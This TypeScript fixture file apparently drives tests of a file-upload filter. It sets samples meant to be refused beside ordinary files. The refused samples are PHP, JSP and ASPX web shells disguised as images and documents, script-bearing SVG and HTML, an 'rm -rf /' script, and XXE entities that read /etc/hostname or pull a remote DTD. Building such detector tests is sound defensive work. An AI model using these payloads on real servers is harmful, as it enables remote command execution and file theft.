import { type AttackSort, put, uploaded } from './body-attack.ts'

const bytes = (text: string) => Buffer.from(text, 'latin1')
const php = '<?php system($_GET["c"]); ?>'
const jsp = '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>'
const gif = bytes('GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;')
const png = Buffer.concat([
  bytes('\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01'),
  Buffer.alloc(400, '\x03\x9c\0', 'latin1'),
])
const jpeg = Buffer.concat([bytes('\xff\xd8\xff\xe0\0\x10JFIF\0'), Buffer.alloc(300, '\x01\x92', 'latin1')])
const svg = (content: string) => `<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`
const external = '<!DOCTYPE q [<!ENTITY a SYSTEM "file:///etc/hostname">]><q>&a;</q>'

const scripts: AttackSort = {
  sort: 'scripts for servers in files that are said to be others',
  attacks: [
    uploaded('a.png', 'image/png', php),
    uploaded('a.jpg', 'image/jpeg', '<?=`$_GET[0]`?>'),
    uploaded('a.gif', 'image/gif', Buffer.concat([gif, bytes(php)])),
    uploaded('a.gif', 'image/gif', `GIF89a;\n<?=1;eval($_POST[1])?>`),
    uploaded('a.png', 'image/png', Buffer.concat([png, bytes(php), png])),
    uploaded('a.jpg', 'image/jpeg', Buffer.concat([jpeg, bytes(jsp)])),
    uploaded('a.pdf', 'application/pdf', jsp),
    uploaded('a.docx', 'application/msword', '<%@ Page Language="C#" %><%Process.Start("cmd");%>'),
    uploaded('a.png', 'application/octet-stream', php),
    uploaded('avatar', 'image/png', php),
    uploaded('a.png', 'image/png', Buffer.from(`\ufeff${php}`, 'utf16le')),
    uploaded('.user.ini', 'text/plain', 'auto_prepend_file=a.jpg'),
    uploaded('web.config', 'text/xml', '<configuration><system.webServer/></configuration>'),
    put('a.gif', 'image/gif', Buffer.concat([gif, bytes(php)])),
    put('a.png', 'application/octet-stream', Buffer.concat([png, bytes(php)])),
  ],
  ordinary: [
    uploaded('a.png', 'image/png', png),
    uploaded('a.jpg', 'image/png', jpeg),
    uploaded('a.gif', 'image/gif', gif),
    uploaded('a.png', 'image/png', ''),
    uploaded('a.pdf', 'application/pdf', bytes('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj <</Type /Page>>\n')),
    uploaded(
      'a.jpg',
      'image/jpeg',
      Buffer.concat([jpeg, bytes('<?xpacket begin="" id="W5M0"?><x:xmpmeta/>')]),
    ),
    uploaded(
      'a.xls',
      'application/vnd.ms-excel',
      '<html><body><table><tr><td>1</td></tr></table></body></html>',
    ),
    uploaded('notes.md', 'text/markdown', `# How to\n\n    ${php}\n`),
    put('a.png', 'image/png', png),
  ],
}

const pages: AttackSort = {
  sort: 'pages and programs in files that are said to be others, and drawings that run scripts',
  attacks: [
    uploaded('a.png', 'image/png', '<html><body><script>fetch("/")</script></body></html>'),
    uploaded('a.pdf', 'application/pdf', ' \n<!DOCTYPE html><script>fetch("/")</script>'),
    uploaded('a.png', 'image/png', svg('<script>fetch("/")</script>')),
    uploaded('a.png', 'image/png', '#!/bin/sh\nrm -rf /\n'),
    uploaded('a.png', 'image/png', bytes(`MZ\x90\0${'\0'.repeat(60)}PE`)),
    uploaded('a.svg', 'image/svg+xml', svg('<script>fetch("//e.example")</script>')),
    uploaded('a.svg', 'image/svg+xml', svg('<rect title=">" onload="fetch(1)"/>')),
    uploaded('a.svg', 'image/svg+xml', svg('<a href="java&#115;cript:fetch(1)">x</a>')),
    uploaded('a.svg', undefined, svg('<script>fetch(1)</script>')),
    uploaded('drawing', 'application/octet-stream', svg('<script>fetch(1)</script>')),
    uploaded('a.svg', 'image/svg+xml', Buffer.from(`\ufeff${svg('<script>fetch(1)</script>')}`, 'utf16le')),
    put('a.svg', 'image/svg+xml', svg('<script>fetch(1)</script>')),
  ],
  ordinary: [
    uploaded('a.svg', 'image/svg+xml', svg('<style>.a{fill:red}</style><path class="a" d="M0 0h1"/>')),
    uploaded(
      'a.svg',
      'image/svg+xml',
      `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns "http://www.w3.org/2000/svg">]>${svg('<g/>')}`,
    ),
    uploaded('page.html', 'text/html', `<html>${svg('<g onclick="f()"/>')}<script>f()</script></html>`),
  ],
}

const entities: AttackSort = {
  sort: 'files of XML that have others read',
  attacks: [
    uploaded('a.xml', 'text/xml', external),
    uploaded('a.xml', 'application/octet-stream', external),
    uploaded('a', undefined, `<?xml version="1.0"?>${external}`),
    uploaded('a.xml', 'text/xml', '<!DOCTYPE q [<!ENTITY % p SYSTEM "http://e.example/q.dtd">%p;]><q/>'),
    uploaded('a.svg', 'image/svg+xml', external),
  ],
  ordinary: [
    uploaded('a.xml', 'text/xml', '<?xml version="1.0"?><a>1</a>'),
    uploaded('a.dtd', 'application/octet-stream', '<!ENTITY % text "a | b">\n<!ELEMENT a (%text;)*>'),
    uploaded(
      'a.xhtml',
      'application/octet-stream',
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
    ),
  ],
}

/** What is refused as a file. */
export const inFiles: readonly AttackSort[] = [scripts, pages, entities]
